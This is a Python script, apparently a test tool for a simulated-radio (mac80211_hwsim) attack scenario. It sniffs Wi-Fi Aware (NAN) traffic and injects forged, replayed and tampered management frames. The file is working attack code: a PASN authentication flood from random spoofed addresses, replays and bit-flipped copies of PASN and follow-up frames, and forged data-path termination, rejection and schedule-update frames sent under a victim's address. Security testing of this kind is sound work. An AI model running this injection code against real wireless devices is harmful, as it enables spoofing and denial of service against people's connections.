#!/usr/bin/env python3
"""An attacker radio for the attack-air scenario: it hears every frame mac80211_hwsim carries (its monitor
interface hwsim0) and injects forged, replayed and tampered management frames through the monitor interface of
a radio of its own, with a victim's address as source where the attack calls for one.

    air-attack.py INJECT A B KINDS [--save FILE] [--template FILE]

INJECT: the attacker's monitor interface (on 2437 MHz); A, B: the victims' NAN addresses (A accepts, B
initiates); KINDS: a comma list of
    flood      PASN Authentication frame 1s to A from random addresses, one every 10 ms until stopped: copies of
               B's frame 1 (the --template one, else the first one heard) with the source replaced
    pasn       when B sends A a PASN frame 1: the --template frame 1 with B's address (forged, from an older
               exchange), B's frame replayed, and a copy with its last byte flipped; when B sends frame 3: it
               replayed, and a copy with a MIC byte flipped
    bootstrap  each follow-up (SDF) B sends A: replayed, and a copy with its last byte flipped
    ndp        on SIGUSR1, from B's last Data Path Request to A: a Data Path Termination and a rejecting Data
               Path Response with B's address, a Schedule Update Notification whose slots are the ones B's
               request did not offer, the request replayed, and copies with a MIC byte or the PMKID (the
               authentication token of message 1) flipped; then it prints "ndp attack sent"
--save FILE: writes B's last PASN frame 1 (hex, a line) there when stopped; --template FILE reads one.

A NAN radio on hwsim takes frames on 2437 MHz only in its discovery windows (16 TU of every 512) and in the slots
its schedule puts on that channel, so every frame is sent again and again for a little more than one period.
Prints "listening" once both sockets are open, a line per reaction, and when stopped (SIGINT, SIGTERM) one JSON
line of counts: frames sent per kind.
"""
import ctypes
import json
import os
import random
import signal
import socket
import struct
import sys
import threading
import time

MONITOR = "hwsim0"
RADIOTAP = b"\x00\x00\x08\x00\x00\x00\x00\x00"   # version 0, length 8, no fields
WFA_OUI = b"\x50\x6f\x9a"
PERIOD_S = 0.53      # 512 TU and a little: one copy lands in a discovery window at least
SPACING_S = 0.004    # a discovery window is 16 TU (16.4 ms): several tries in each
FLOOD_SPACING_S = 0.010

SO_ATTACH_FILTER = 26
# Classic BPF: management frames only (802.11 type 0), found after the radiotap header whose length is at
# bytes 2-3 (little-endian). Without it every data frame of the TCP exchange would wake this process.
MANAGEMENT_ONLY = [
    (0x30, 0, 0, 3), (0x64, 0, 0, 8), (0x02, 0, 0, 0), (0x30, 0, 0, 2), (0x07, 0, 0, 0), (0x60, 0, 0, 0),
    (0x0C, 0, 0, 0), (0x07, 0, 0, 0), (0x50, 0, 0, 0), (0x54, 0, 0, 0x0C), (0x15, 0, 1, 0),
    (0x06, 0, 0, 0x40000), (0x06, 0, 0, 0),
]


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def flipped(frame, index):
    out = bytearray(frame)
    out[index] ^= 0xFF
    return bytes(out)


def with_source(frame, source):
    return frame[:10] + source + frame[16:]


def attributes(body, start):
    """(id, offset of the attribute, length of its body) of each NAN attribute from `start` in `body`."""
    offset = start
    while offset + 3 <= len(body):
        ident = body[offset]
        (length,) = struct.unpack_from("<H", body, offset + 1)
        if offset + 3 + length > len(body):
            return
        yield ident, offset, length
        offset += 3 + length


class Attacker:
    def __init__(self, inject, a, b, kinds, template):
        self.a, self.b, self.kinds = mac_bytes(a), mac_bytes(b), kinds
        self.template = template
        self.frame1 = self.frame3 = self.request = None
        self.replied = set()       # follow-ups already answered with a replay
        self.sent_by_us = set()    # what we injected, as the monitor shows it again (sequence number left out)
        self.counts = {}
        self.lock = threading.Lock()
        self.stopping = threading.Event()
        self.out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.out.bind((inject, 0))

    def say(self, text):
        print(text, flush=True)

    def burst(self, frames):
        """Sends every (kind, frame) again and again for one period, the frames interleaved."""
        for frame in (f for _, f in frames):
            self.sent_by_us.add(frame[:22] + frame[24:])
        deadline = time.monotonic() + PERIOD_S
        while time.monotonic() < deadline and not self.stopping.is_set():
            for kind, frame in frames:
                self.send(kind, frame)
            time.sleep(SPACING_S)

    def send(self, kind, frame):
        try:
            self.out.send(RADIOTAP + frame)
        except OSError:
            return
        with self.lock:
            self.counts[kind] = self.counts.get(kind, 0) + 1

    def in_background(self, work):
        threading.Thread(target=work, daemon=True).start()

    # Reactions to what the victims send.

    def heard(self, frame):
        if len(frame) < 24 or frame[10:16] != self.b or frame[4:10] != self.a:
            return
        if frame[:22] + frame[24:] in self.sent_by_us:
            return
        if frame[0] == 0xB0 and len(frame) >= 30:
            algorithm, sequence = struct.unpack_from("<HH", frame, 24)
            if algorithm == 7 and sequence == 1:
                self.heard_frame1(frame)
            elif algorithm == 7 and sequence == 3:
                self.heard_frame3(frame)
        elif frame[0] == 0xD0 and len(frame) >= 31 and frame[24:26] == b"\x04\x09" and frame[26:29] == WFA_OUI:
            if frame[29] == 0x13:
                self.heard_followup(frame)
            elif frame[29] == 0x18 and frame[30] == 5:
                self.request = frame
                self.say("heard B's Data Path Request (%d bytes)" % len(frame))

    def heard_frame1(self, frame):
        fresh = self.frame1 is None
        self.frame1 = frame
        if "flood" in self.kinds and fresh and self.template is None:
            self.template = frame
            self.in_background(self.flood)
        if "pasn" not in self.kinds:
            return
        self.say("heard B's PASN frame 1: replaying it, a flipped copy%s" % (" and the older one" if self.template else ""))
        frames = [("pasn-frame1-replayed", frame), ("pasn-frame1-flipped", flipped(frame, len(frame) - 1))]
        if self.template and self.template[24:] != frame[24:]:
            frames.append(("pasn-frame1-forged", with_source(self.template, self.b)))
        self.in_background(lambda: self.burst(frames))

    def heard_frame3(self, frame):
        self.frame3 = frame
        if "pasn" not in self.kinds:
            return
        self.say("heard B's PASN frame 3: replaying it and a copy with a MIC byte flipped")
        # The MIC element (ID 140) ends frame 3: its last byte is the MIC's.
        frames = [("pasn-frame3-replayed", frame), ("pasn-frame3-flipped", flipped(frame, len(frame) - 1))]
        self.in_background(lambda: self.burst(frames))

    def heard_followup(self, frame):
        if "bootstrap" not in self.kinds or frame[24:] in self.replied:
            return
        self.replied.add(frame[24:])
        self.say("heard a follow-up of B (%d bytes): replaying it and a tampered copy" % len(frame))
        frames = [("followup-replayed", frame), ("followup-tampered", flipped(frame, len(frame) - 1))]
        self.in_background(lambda: self.burst(frames))

    # Attacks of their own.

    def flood(self):
        self.say("flooding A with PASN frame 1s from random addresses")
        while not self.stopping.is_set():
            source = bytes([random.randrange(256) & 0xFC | 0x02]) + os.urandom(5)   # local, unicast
            self.send("pasn-flood", with_source(self.template, source))
            time.sleep(FLOOD_SPACING_S)

    def ndp_attack(self):
        request = self.request
        if request is None:
            self.say("ndp attack: no Data Path Request of B heard, nothing sent")
            return
        header, body = request[:24], request[24:]
        frames = [("ndp-request-replayed", request)]
        ndp = availability = None
        for ident, offset, length in attributes(body, 7):
            if ident in (0x10, 0x29) and length >= 10:
                ndp = (ident, body[offset + 3:offset + 3 + length])
            elif ident == 0x12 and availability is None:
                availability = body[offset:offset + 3 + length]
            elif ident == 0x24 and length > 79:
                # Shared Key Descriptor: publish ID, then the EAPOL-Key descriptor, whose MIC starts 77 bytes in.
                frames.append(("ndp-request-mic-flipped", header + flipped(body, offset + 3 + 78)))
            elif ident == 0x23 and length >= 20:
                # Security Context Info: its last bytes are the PMKID.
                frames.append(("ndp-request-pmkid-flipped", header + flipped(body, offset + 3 + length - 1)))
        if ndp is not None:
            ident, fixed = ndp
            dialog, initiator, ndp_id = fixed[0], fixed[3:9], fixed[9]
            # Termination: type 4, status 0; reason 0; no publish ID or responder NDI.
            terminate = bytes([dialog, 0x04, 0]) + initiator + bytes([ndp_id, 0])
            frames.append(("ndp-termination", header + self.naf(9, ident, terminate)))
            # Response: type 1, status 2 (rejected), reason 1 (unspecified).
            reject = bytes([dialog, 0x01 | 2 << 4, 1]) + initiator + bytes([ndp_id, 0])
            frames.append(("ndp-response-rejected", header + self.naf(6, ident, reject)))
        if availability is not None:
            frames.append(("schedule-update-no-common-slot", header + self.naf(13, None, self.elsewhere(availability))))
        self.say("ndp attack: %s" % ", ".join(kind for kind, _ in frames))
        self.burst(frames)
        self.say("ndp attack sent")

    @staticmethod
    def naf(subtype, ident, value):
        """A NAN action frame body: `value` as the body of an attribute `ident`, or, with no ident, as whole
        attributes."""
        body = b"\x04\x09" + WFA_OUI + bytes([0x18, subtype])
        if ident is None:
            return body + value
        return body + bytes([ident]) + struct.pack("<H", len(value)) + value

    @staticmethod
    def elsewhere(attribute):
        """A NAN Availability attribute with the sequence ID one newer and every time bitmap inverted: the slots it
        commits are the ones the original did not."""
        out = bytearray(attribute)
        out[3] = (out[3] + 1) & 0xFF
        offset = 6                      # id, length (2), sequence ID, attribute control (2)
        while offset + 4 <= len(out):
            (length,) = struct.unpack_from("<H", out, offset)
            (control,) = struct.unpack_from("<H", out, offset + 2)
            if control & 1 << 12 and offset + 7 <= len(out):
                size = out[offset + 6]
                for i in range(offset + 7, min(offset + 7 + size, len(out))):
                    out[i] ^= 0xFF
            offset += 2 + length
        return bytes(out)


def main():
    args = sys.argv[1:]
    options = {}
    for name in ("--save", "--template"):
        if name in args:
            i = args.index(name)
            options[name] = args[i + 1]
            del args[i:i + 2]
    if len(args) != 4:
        sys.exit(__doc__)
    inject, a, b, kinds = args
    template = None
    if "--template" in options:
        with open(options["--template"]) as f:
            text = f.read().strip()
        template = bytes.fromhex(text) if text else None
    attacker = Attacker(inject, a, b, set(kinds.split(",")), template)
    if "flood" in attacker.kinds and template is not None:
        attacker.in_background(attacker.flood)

    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    program = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in MANAGEMENT_ONLY))
    sniff.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", len(MANAGEMENT_ONLY), ctypes.addressof(program)))
    sniff.bind((MONITOR, 0))
    sniff.settimeout(0.2)

    def stop(_signal, _frame):
        attacker.stopping.set()

    signal.signal(signal.SIGINT, stop)
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGUSR1, lambda _s, _f: attacker.in_background(attacker.ndp_attack))
    attacker.say("listening")
    while not attacker.stopping.is_set():
        try:
            frame = sniff.recv(8192)
        except (socket.timeout, InterruptedError):
            continue
        if len(frame) < 4:
            continue
        (length,) = struct.unpack_from("<H", frame, 2)
        attacker.heard(frame[length:])
    if "--save" in options:
        with open(options["--save"], "w") as f:
            f.write((attacker.frame1 or b"").hex() + "\n")
    with attacker.lock:
        print(json.dumps(attacker.counts, sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
